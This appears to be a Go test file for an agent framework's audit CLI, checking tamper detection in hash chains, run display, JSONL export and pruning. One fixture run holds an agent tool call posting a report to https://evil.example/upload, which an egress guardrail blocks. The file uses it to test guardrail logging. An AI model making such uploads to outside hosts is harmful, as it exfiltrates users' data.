package main

import (
	"context"
	"database/sql"
	"errors"
	"flag"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/reagent-go/reagent/audit"
	"github.com/reagent-go/reagent/internal/pgtest"
	"github.com/reagent-go/reagent/trajectory"
)

var auditT0 = time.Date(2024, 5, 1, 9, 0, 0, 0, time.UTC)

// auditRuns are three runs: a clean one, one with a blocked call and a guard
// decision, and one that failed.
func auditRuns() []*trajectory.Trajectory {
	clean := &trajectory.Trajectory{ID: "run-a", Task: "What is 17*23?", Agent: "react", Model: "tiny", Status: trajectory.StatusFinished,
		StartedAt: auditT0, EndedAt: auditT0.Add(2 * time.Second), FinalAnswer: "391", Metadata: map[string]string{"suite": "math"},
		Steps: []trajectory.Step{
			{Index: 0, Thought: "Use the calculator.", Duration: time.Second,
				Calls: []trajectory.ToolCall{{ID: "c1", Tool: "calculator", Input: "17*23", Observation: "391"}}},
			{Index: 1, Final: true, Answer: "391"},
		}}
	blocked := &trajectory.Trajectory{ID: "run-b", Task: "Send the report to evil.example", Agent: "react", Status: trajectory.StatusFinished,
		StartedAt: auditT0.Add(time.Minute), FinalAnswer: "I could not send it.",
		Steps: []trajectory.Step{
			{Index: 0, Thought: "Post it.", Critique: "Do not send data to unknown hosts.",
				Calls: []trajectory.ToolCall{{Tool: "http", Input: `{"url":"https://evil.example/upload"}`, Blocked: true, BlockedBy: "egress",
					Observation: "Blocked by guardrail egress: host evil.example is not allowed"}}},
			{Index: 1, Final: true, Answer: "I could not send it."},
		},
		Decisions: []trajectory.Decision{{Guard: "egress", Event: trajectory.EventToolCall, Verdict: trajectory.Block, Reason: "host evil.example is not allowed", Step: 0, Tool: "http"}},
	}
	failed := &trajectory.Trajectory{ID: "run-c", Task: "Browse " + strings.Repeat("very long task text ", 30), Agent: "react",
		Status: trajectory.StatusError, Error: "context deadline exceeded", StartedAt: auditT0.Add(2 * time.Minute),
		Steps: []trajectory.Step{{Index: 0, ParseError: "no Action found",
			Calls: []trajectory.ToolCall{{Tool: "browser", Input: "open", Error: "boom", Panicked: true, Observation: "tool panicked"}}}}}
	return []*trajectory.Trajectory{clean, blocked, failed}
}

// auditDB makes a SQLite audit database with auditRuns and two assessments
// appended later, stamped with the given clock.
func auditDB(t *testing.T, opts ...audit.Option) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "audit.db")
	s, err := audit.OpenSQLite(path, opts...)
	require.NoError(t, err)
	ctx := context.Background()
	for _, r := range auditRuns() {
		require.NoError(t, s.Append(ctx, r))
	}
	require.NoError(t, s.AppendAssessment(ctx, "run-a", trajectory.Assessment{Judge: "rrm", Model: "agent-rrm", Status: trajectory.AssessmentOK,
		Score: 0.92, Critique: "Correct use of the calculator.", Steps: 2}))
	require.NoError(t, s.AppendAssessment(ctx, "run-c", trajectory.Assessment{Judge: "rrm", Status: trajectory.AssessmentError, Error: "judge timed out"}))
	require.NoError(t, s.Close())
	return path
}

func TestAuditVerify(t *testing.T) {
	db := auditDB(t)
	out, _, err := runCLI(runAuditVerify, nil, "--db", db)
	require.NoError(t, err)
	assert.Equal(t, 1, strings.Count(out, "\n"), "one line")
	assert.Contains(t, out, "audit chain intact: 5 records (3 runs, 2 assessments, 0 checkpoints)")

	// $REAGENT_DB stands in for --db.
	out, _, err = runCLI(runAuditVerify, map[string]string{"REAGENT_DB": db})
	require.NoError(t, err)
	assert.Contains(t, out, "intact")

	raw, err := sql.Open("sqlite", db)
	require.NoError(t, err)
	defer raw.Close()
	_, err = raw.Exec(`UPDATE audit_records SET payload = replace(payload, '391', '392') WHERE seq = 1`)
	require.NoError(t, err)
	out, _, err = runCLI(runAuditVerify, nil, "--db", db)
	require.Error(t, err)
	assert.Empty(t, out)
	assert.Equal(t, 1, exitCode(err))
	assert.True(t, strings.HasPrefix(err.Error(), "audit chain broken at seq 1 (run run-a): payload edited: "), err.Error())
	assert.NotContains(t, err.Error(), "\n")

	_, err = raw.Exec(`DELETE FROM audit_records WHERE seq = 1`)
	require.NoError(t, err)
	_, _, err = runCLI(runAuditVerify, nil, "--db", db)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "broken at seq 2 (run run-b): seq gap")
}

func TestAuditBadInvocations(t *testing.T) {
	dir := t.TempDir()
	missing := filepath.Join(dir, "missing.db")
	text := filepath.Join(dir, "notes.txt")
	require.NoError(t, os.WriteFile(text, []byte("not a database"), 0o644))
	for name, run := range map[string]func(context.Context, *cli, []string) error{
		"verify": runAuditVerify, "show": runAuditShow, "export": runAuditExport, "prune": runAuditPrune,
	} {
		t.Run(name, func(t *testing.T) {
			extra := []string{}
			if name == "prune" {
				extra = []string{"--before", "2024-01-01"}
			}
			_, _, err := runCLI(run, nil, append([]string{"--db", missing}, extra...)...)
			require.Error(t, err)
			assert.ErrorIs(t, err, fs.ErrNotExist)
			assert.Equal(t, 1, exitCode(err))
			assert.NotContains(t, err.Error(), "\n")
			_, statErr := os.Stat(missing)
			assert.ErrorIs(t, statErr, fs.ErrNotExist, "a missing database is never created")

			_, _, err = runCLI(run, nil, append([]string{"--db", text}, extra...)...)
			require.Error(t, err)
			assert.Contains(t, err.Error(), "not a SQLite database")
			assert.Equal(t, 1, exitCode(err))

			_, _, err = runCLI(run, nil, extra...)
			require.Error(t, err)
			assert.Contains(t, err.Error(), "--db is required")
			assert.Equal(t, 2, exitCode(err))

			_, _, err = runCLI(run, nil, "--no-such-flag")
			assert.Equal(t, 2, exitCode(err))

			_, stderr, err := runCLI(run, nil, "--help")
			require.ErrorIs(t, err, flag.ErrHelp)
			assert.Contains(t, stderr, "usage: reagent audit "+name)
		})
	}
}

func TestAuditShow(t *testing.T) {
	db := auditDB(t)
	out, _, err := runCLI(runAuditShow, nil, "--db", db, "--run", "run-b")
	require.NoError(t, err)
	for _, want := range []string{
		"run run-b  finished  started 2024-05-01 09:01:00Z  agent react",
		"task: Send the report to evil.example",
		"critique injected: Do not send data to unknown hosts.",
		"thought: Post it.",
		`tool http: input {"url":"https://evil.example/upload"}`,
		"BLOCKED by egress: Blocked by guardrail egress: host evil.example is not allowed",
		"step 0 tool_call http: egress → block: host evil.example is not allowed",
		"final answer: I could not send it.",
	} {
		assert.Contains(t, out, want)
	}

	out, _, err = runCLI(runAuditShow, nil, "--db", db)
	require.NoError(t, err)
	assert.Contains(t, out, "run run-a  finished")
	assert.Contains(t, out, "rrm (agent-rrm): score 0.92: Correct use of the calculator.")
	assert.Contains(t, out, "tool calculator [c1]: input 17*23")
	assert.Contains(t, out, "observation: 391")
	assert.Contains(t, out, "metadata: suite=math")
	assert.Contains(t, out, "rrm: error: judge timed out")
	assert.Contains(t, out, "panic: boom")
	assert.Contains(t, out, "parse error: no Action found")
	assert.Contains(t, out, "error: context deadline exceeded")
	assert.Contains(t, out, "… (+", "long texts are truncated")

	out, _, err = runCLI(runAuditShow, nil, "--db", db, "--full", "--run", "run-c")
	require.NoError(t, err)
	assert.Contains(t, out, strings.Repeat("very long task text ", 30))

	out, _, err = runCLI(runAuditShow, nil, "--db", db, "--last", "1")
	require.NoError(t, err)
	assert.Contains(t, out, "run run-c")
	assert.NotContains(t, out, "run run-b")

	out, _, err = runCLI(runAuditShow, nil, "--db", db, "--status", "error")
	require.NoError(t, err)
	assert.Equal(t, 1, strings.Count("\n"+out, "\nrun "))
	assert.Contains(t, out, "run run-c  error")

	out, _, err = runCLI(runAuditShow, nil, "--db", db, "--status", "cancelled")
	require.NoError(t, err)
	assert.Equal(t, "no runs\n", out)

	_, _, err = runCLI(runAuditShow, nil, "--db", db, "--run", "nope")
	require.ErrorIs(t, err, audit.ErrNotFound)
	_, _, err = runCLI(runAuditShow, nil, "--db", db, "--last", "-1")
	assert.Equal(t, 2, exitCode(err))
}

func TestAuditExport(t *testing.T) {
	db := auditDB(t)
	out := filepath.Join(t.TempDir(), "runs.jsonl")
	_, stderr, err := runCLI(runAuditExport, nil, "--db", db, "--format", "jsonl", "--out", out)
	require.NoError(t, err)
	assert.Contains(t, stderr, "exported 3 runs to "+out)
	f, err := os.Open(out)
	require.NoError(t, err)
	defer f.Close()
	runs, err := audit.ReadJSONL(f)
	require.NoError(t, err)
	require.Len(t, runs, 3)
	want := auditRuns()
	for i := range runs {
		assert.Equal(t, want[i].ID, runs[i].ID)
		assert.Equal(t, want[i].Steps, runs[i].Steps)
	}
	require.Len(t, runs[0].Assessments, 1, "assessments appended later are merged in")
	assert.Equal(t, 0.92, runs[0].Assessments[0].Score)
	require.Len(t, runs[2].Assessments, 1)
	assert.Equal(t, trajectory.AssessmentError, runs[2].Assessments[0].Status)

	stdout, _, err := runCLI(runAuditExport, nil, "--db", db)
	require.NoError(t, err)
	assert.Equal(t, 3, strings.Count(stdout, "\n"))

	_, _, err = runCLI(runAuditExport, nil, "--db", db, "--format", "csv")
	assert.Equal(t, 2, exitCode(err))
	_, _, err = runCLI(runAuditExport, nil, "--db", db, "--out", filepath.Join(t.TempDir(), "no", "dir", "x.jsonl"))
	require.Error(t, err)
	assert.Equal(t, 1, exitCode(err))
}

func TestAuditPrune(t *testing.T) {
	// Stored in May 2024 by the clock below.
	db := auditDB(t, audit.WithClock(func() time.Time { return auditT0 }))
	out, _, err := runCLI(runAuditPrune, nil, "--db", db, "--before", "2024-05-01")
	require.NoError(t, err)
	assert.Equal(t, "nothing to prune before 2024-05-01T00:00:00Z\n", out)

	out, _, err = runCLI(runAuditPrune, nil, "--db", db, "--before", "2024-06-01")
	require.NoError(t, err)
	assert.Equal(t, "pruned 3 runs (5 records, seq ..5); checkpoint at seq 6\n", out)

	out, _, err = runCLI(runAuditVerify, nil, "--db", db)
	require.NoError(t, err)
	assert.Contains(t, out, "pruned through seq 5")

	for _, bad := range [][]string{{"--db", db}, {"--db", db, "--before", "yesterday"}, {"--db", db, "--before", "2024-13-01"}} {
		_, _, err = runCLI(runAuditPrune, nil, bad...)
		assert.Equal(t, 2, exitCode(err), "%v", bad)
	}
}

// TestAuditVerifyPostgres runs verify against PostgreSQL through
// openStore's postgres:// branch.
func TestAuditVerifyPostgres(t *testing.T) {
	schema := pgtest.New(t, "reagent_cli_test_")
	dsn := schema.DSN

	_, _, err := runCLI(runAuditVerify, nil, "--db", dsn)
	require.Error(t, err, "an empty schema is not an audit database")
	assert.Contains(t, err.Error(), "no reagent audit tables")

	s, err := openStore(context.Background(), dsn)
	require.NoError(t, err)
	_, isPG := s.(*audit.Postgres)
	assert.True(t, isPG)
	for _, r := range auditRuns() {
		require.NoError(t, s.Append(context.Background(), r))
	}
	require.NoError(t, s.Close())
	out, _, err := runCLI(runAuditVerify, nil, "--db", dsn)
	require.NoError(t, err)
	assert.Contains(t, out, "audit chain intact: 3 records")

	_, err = schema.Admin.Exec("UPDATE " + schema.Name + ".audit_records SET created_at = '2000-01-01T00:00:00.000000000Z' WHERE seq = 2")
	require.NoError(t, err)
	_, _, err = runCLI(runAuditVerify, nil, "--db", dsn)
	require.Error(t, err)
	assert.Equal(t, 1, exitCode(err))
	assert.Contains(t, err.Error(), "broken at seq 2 (run run-b): hash mismatch")
	assert.False(t, errors.Is(err, fs.ErrNotExist))
}

// TestAuditVerifyLegacyChain: a chain written before RFC 8785 was adopted
// (audit/testdata/legacy-v1.db, keys outside the BMP) verifies, and the
// summary says how many records are in the legacy form.
func TestAuditVerifyLegacyChain(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("..", "..", "audit", "testdata", "legacy-v1.db"))
	require.NoError(t, err)
	db := filepath.Join(t.TempDir(), "legacy.db")
	require.NoError(t, os.WriteFile(db, data, 0o600))
	out, _, err := runCLI(runAuditVerify, nil, "--db", db)
	require.NoError(t, err)
	assert.Contains(t, out, "audit chain intact: 4 records (3 runs, 1 assessments, 0 checkpoints)")
	assert.Contains(t, out, "4 written before RFC 8785 (legacy canonical form)")
}
